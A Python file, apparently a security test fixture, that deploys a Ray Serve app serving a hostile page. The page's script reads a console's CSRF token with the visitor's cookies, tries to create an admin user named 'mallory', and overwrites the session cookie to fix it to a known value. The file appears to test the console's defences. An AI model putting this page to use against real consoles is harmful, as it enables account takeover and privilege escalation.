"""A Serve app whose page attacks whoever opens it (issue 28): it tries to read the console's CSRF token, to
create an admin user with the opener's console session (at the console and at its own origin), and to replace
the console's session cookie. Deployed with plain Ray tooling, as any cluster operator could."""

from ray import serve
from starlette.responses import HTMLResponse

PAGE = """<!doctype html><html><head><title>loading</title></head><body><h1>hostile</h1><script>
const results = [];
const consoleUrl = new URLSearchParams(location.search).get("console");
// The attack of the review: read a console page for its CSRF token, then create an admin with the opener's cookie.
async function stealAndCreate(base) {
  const page = await (await fetch(base + "/", {credentials: "include"})).text();
  const token = (page.match(/name="csrf-token" content="([^"]+)"/) || [])[1] || "";
  results.push((base ? "console" : "here") + "-csrf:" + (token ? "read" : "none"));
  return fetch(base + "/api/v1/users", {method: "POST", credentials: "include",
    headers: {"content-type": "application/json", "x-csrf-token": token},
    body: JSON.stringify({name: "mallory", team: "default", is_admin: true})});
}
async function attempt(label, run) {
  try { const answer = await run(); results.push(label + ":" + answer.status); }
  catch (error) { results.push(label + ":blocked"); }
}
(async () => {
  await attempt("admin-at-console", () => stealAndCreate(consoleUrl));
  await attempt("admin-here", () => stealAndCreate(""));
  document.cookie = "__Host-raypod_session=fixated; Path=/; Secure";
  document.cookie = "raypod_session=fixated; Path=/; Domain=localhost";
  document.title = "done " + results.join(" ");
})();
</script></body></html>"""


@serve.deployment(ray_actor_options={"num_cpus": 0})  # the cluster's CPUs are the model's
class Hostile:
    async def __call__(self, request) -> HTMLResponse:  # type: ignore[no-untyped-def]
        return HTMLResponse(PAGE, headers={"Set-Cookie": "__Host-raypod_session=fixated; Path=/; Secure"})


serve.run(Hostile.bind(), name="hostile", route_prefix="/hostile")
print("hostile-deployed")
